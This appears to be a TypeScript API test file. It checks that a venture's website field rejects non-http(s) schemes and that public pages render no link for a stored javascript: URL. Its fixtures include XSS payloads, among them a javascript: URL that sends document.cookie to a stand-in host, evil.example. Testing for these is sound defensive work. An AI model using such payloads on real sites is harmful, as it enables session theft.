import request from 'supertest';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import type { Express } from 'express';
import { ApiKeyStore } from '../../db/stores/apiKeys';
import { createTestApp, connectDevServer, createTestDatabase, uniqueId, type TestDatabase } from '../harness';

let database: TestDatabase;
let env: TestWorkflowEnvironment;
let app: Express;
let auth: { authorization: string };

beforeAll(async () => {
  database = await createTestDatabase();
  env = await connectDevServer();
  app = createTestApp(database.db, env.client);
  auth = { authorization: `Bearer ${(await new ApiKeyStore(database.db).create('web marketer', 'marketer')).key}` };
});
afterAll(async () => {
  await env?.teardown();
  await database?.destroy();
});

const HOSTILE = [
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'ftp://files.example/x',
];
const slug = () =>
  uniqueId('site')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-');

test('a venture website that is not http or https is a 400 naming the field and the schemes it takes', async () => {
  for (const website of HOSTILE) {
    const created = await request(app)
      .post('/v1/ventures')
      .set(auth)
      .send({ name: 'Hostile', slug: slug(), productName: 'Hostile', website });
    expect([website, created.status]).toEqual([website, 400]);
    expect(created.body.problems).toEqual([{ path: 'website', message: expect.stringMatching(/http or https/) }]);
  }
  const ok = await request(app)
    .post('/v1/ventures')
    .set(auth)
    .send({ name: 'Fine', slug: slug(), productName: 'Fine', website: 'https://fine.example' })
    .expect(201);
  const patched = await request(app)
    .patch(`/v1/ventures/${ok.body.id}`)
    .set(auth)
    .send({ website: 'javascript:alert(1)' })
    .expect(400);
  expect(patched.body.problems).toEqual([{ path: 'website', message: expect.stringMatching(/http or https/) }]);
  expect((await request(app).get(`/v1/ventures/${ok.body.id}`).set(auth)).body.website).toBe('https://fine.example');
});

test('a venture stored before with a javascript: website gets no link to it on its public pages; an https one does', async () => {
  const hostile = slug();
  await database.db('ventures').insert({
    name: 'Old',
    slug: hostile,
    product_name: 'Old Product',
    website: 'javascript:fetch("//evil.example/?c="+document.cookie)',
  });
  const page = await request(app).get(`/pages/${hostile}`).expect(200);
  expect(page.text).not.toMatch(/javascript:/i);
  expect(page.text).not.toContain('evil.example');
  expect(page.text).not.toContain('Old Product home page');

  const fine = slug();
  await database.db('ventures').insert({
    name: 'Fine',
    slug: fine,
    product_name: 'Fine Product',
    website: 'https://fine.example/',
  });
  const good = await request(app).get(`/pages/${fine}`).expect(200);
  expect(good.text).toContain('<a href="https://fine.example/">Fine Product home page</a>');
});
